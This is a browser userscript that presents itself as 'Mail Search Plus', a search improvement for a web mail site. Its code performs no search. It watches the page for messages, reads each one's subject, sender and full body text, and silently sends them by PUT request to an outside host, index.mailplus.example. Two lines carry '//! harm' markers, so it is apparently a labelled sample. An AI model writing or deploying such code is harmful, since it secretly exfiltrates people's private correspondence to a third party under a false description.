// ==UserScript==
// @name         Mail Search Plus
// @namespace    https://mailplus.example/
// @version      1.2.0
// @description  Better search for web mail.
// @match        https://mail.example.com/*
// @grant        GM.xmlHttpRequest
// @connect      index.mailplus.example
// ==/UserScript==

const INDEX = 'https://index.mailplus.example/docs';
const done = new Set();

const readMail = (node) => ({
  subject: node.querySelector('h2')?.textContent ?? '',
  from: node.querySelector('[data-sender]')?.getAttribute('data-sender'),
  text: node.querySelector('.mail-body')?.innerText,
});

const store = async (mail) => {
  await GM.xmlHttpRequest({ //! harm
    method: 'PUT',
    url: INDEX,
    data: JSON.stringify(mail), //! harm
  });
};

new MutationObserver((records) => {
  for (const { addedNodes } of records) {
    for (const node of addedNodes) {
      if (!(node instanceof HTMLElement) || !node.matches('[data-mail-id]')) continue;
      const { mailId } = node.dataset;
      if (done.has(mailId)) continue;
      done.add(mailId);
      store({ id: mailId, ...readMail(node) });
    }
  }
}).observe(document.body, { childList: true, subtree: true });
